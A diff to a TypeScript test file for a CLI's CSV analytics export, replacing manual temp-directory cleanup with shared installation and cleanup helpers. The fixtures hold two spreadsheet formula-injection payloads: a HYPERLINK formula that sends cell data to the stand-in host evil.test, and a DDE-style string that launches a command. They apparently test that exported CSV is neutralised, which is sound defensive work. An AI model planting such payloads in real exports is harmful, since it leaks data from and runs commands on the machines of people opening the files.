@@ -1,12 +1,9 @@
-import { mkdtempSync, rmSync } from 'node:fs';
-import { tmpdir } from 'node:os';
-import path from 'node:path';
 import { parse } from 'csv-parse/sync';
-import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { beforeAll, describe, expect, it } from 'vitest';
 import { runCli, startServer, type Server } from '../helpers/cli.js';
-import { fileInstallation } from '../helpers/installation.js';
+import { orgInstallation } from '../helpers/installation.js';
+import { onCleanup } from '../helpers/cleanup.js';
 
-const cleanups: (() => Promise<unknown> | void)[] = [];
 let server: Server;
 let key: string;
 const yesterday = new Date(Date.now() - 86_400_000).toISOString().slice(0, 10);
@@ -16,13 +13,10 @@ const MODEL = '=HYPERLINK("http://evil.test/?leak="&A1,"open")';
 const TOOL = '@SUM(1+1)*cmd|/C calc';
 
 beforeAll(async () => {
-  const dir = mkdtempSync(path.join(tmpdir(), 'orgctl-cli-csv-'));
-  cleanups.push(() => rmSync(dir, { recursive: true, force: true }));
-  const installed = await fileInstallation(dir);
-  cleanups.push(installed.remove);
+  const installed = await orgInstallation();
   key = installed.ownerKey;
   server = await startServer(installed.env);
-  cleanups.push(() => server.stop());
+  onCleanup(() => server.stop());
   const base = { timestamp: `${yesterday}T12:00:00Z`, sessionId: 's1', client: 'terminal-ui' };
   const events = [
     { id: 'csv-1', type: 'model_request', ...base, model: MODEL, tier: 'standard', inputTokens: 700, outputTokens: 5, cacheReadTokens: 0, cacheWriteTokens: 0 },
@@ -35,9 +29,6 @@ beforeAll(async () => {
   });
   expect(res.status).toBe(202);
 }, 120_000);
-afterAll(async () => {
-  for (const c of cleanups.reverse()) await c();
-});
 
 const csvOf = async (args: string[]) => {
   const res = await runCli(['analytics', ...args, '--from', yesterday, '--to', yesterday, '--output', 'csv'], { ORGCTL_URL: server.url, ORGCTL_API_KEY: key });
